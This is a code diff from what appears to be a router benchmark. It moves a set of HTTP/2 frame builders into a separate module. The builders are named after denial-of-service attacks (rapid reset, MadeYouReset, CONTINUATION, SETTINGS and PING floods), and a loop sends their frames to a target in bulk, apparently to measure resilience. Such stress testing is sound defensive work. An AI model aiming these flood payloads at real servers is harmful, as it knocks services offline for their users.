@@ -12,55 +12,16 @@ from collections.abc import Callable
 from pathlib import Path
 from typing import Any
 
+from bench.router.floods import FLOODS, OPENING
 from bench.router.process import router
 from bench.router.rows import Row, most
 from bench.support import machine
 
-__all__ = ["FLOODS", "measure"]
+__all__ = ["measure"]
 
 PROBES, PAUSE_S = 100, 0.02
 FEW_FILES, NUM_IDLE = 256, 10_000
 CONNECTIONS = 8
-_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
-_HEADERS, _RESET, _SETTINGS, _PING, _WINDOW, _CONTINUATION = 1, 3, 4, 6, 8, 9
-_END_HEADERS = 4
-
-
-def _frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
-    head = len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big")
-    return head + payload
-
-
-def _fields() -> bytes:
-    pairs = {
-        ":method": "POST",
-        ":scheme": "http",
-        ":path": "/spectrie.v1.Inference/Generate",
-        ":authority": "localhost",
-        "content-type": "application/grpc",
-        "te": "trailers",
-    }
-    coded = [bytes([len(text)]) + text.encode() for pair in pairs.items() for text in pair]
-    return b"".join(b"\0" + a + b for a, b in zip(coded[::2], coded[1::2], strict=True))
-
-
-def _begun(number: int) -> bytes:
-    return _frame(_HEADERS, _END_HEADERS, 2 * number + 1, _fields())
-
-
-FLOODS: dict[str, Callable[[int], bytes]] = {
-    "rapid reset": lambda n: _begun(n) + _frame(_RESET, 0, 2 * n + 1, (8).to_bytes(4, "big")),
-    "MadeYouReset": lambda n: _begun(n) + _frame(_WINDOW, 0, 2 * n + 1, bytes(4)),
-    "CONTINUATION": lambda n: (
-        _frame(_CONTINUATION, 0, 1, (b"\0\1ad" + b"v" * 100) * 100)
-        if n
-        else _frame(_HEADERS, 0, 1, _fields())
-    ),
-    "SETTINGS": lambda n: _frame(_SETTINGS, 0, 0, b"\0\4" + (n % 1000 + 1).to_bytes(4, "big")),
-    "PING": lambda n: _frame(_PING, 0, 0, n.to_bytes(8, "big")),
-    "half bodies": lambda n: _begun(n) + _frame(0, 0, 2 * n + 1, b"\0\0\0\x40\0" + b"a" * 1000),
-}
-"""What a connection sends in its round `n`, by the name of the attack."""
 
 
 def measure(folder: Path) -> tuple[list[Row], dict[str, Any]]:
@@ -137,7 +98,7 @@ def _rounds(one: Callable[[int], bytes], address: str) -> Any:
     while True:
         connection = _connect(address)
         try:
-            connection.sendall(_PREFACE + _frame(_SETTINGS, 0, 0, b""))
+            connection.sendall(OPENING)
             for first in range(0, 1 << 29, 64):
                 connection.sendall(b"".join(one(first + number) for number in range(64)))
                 yield
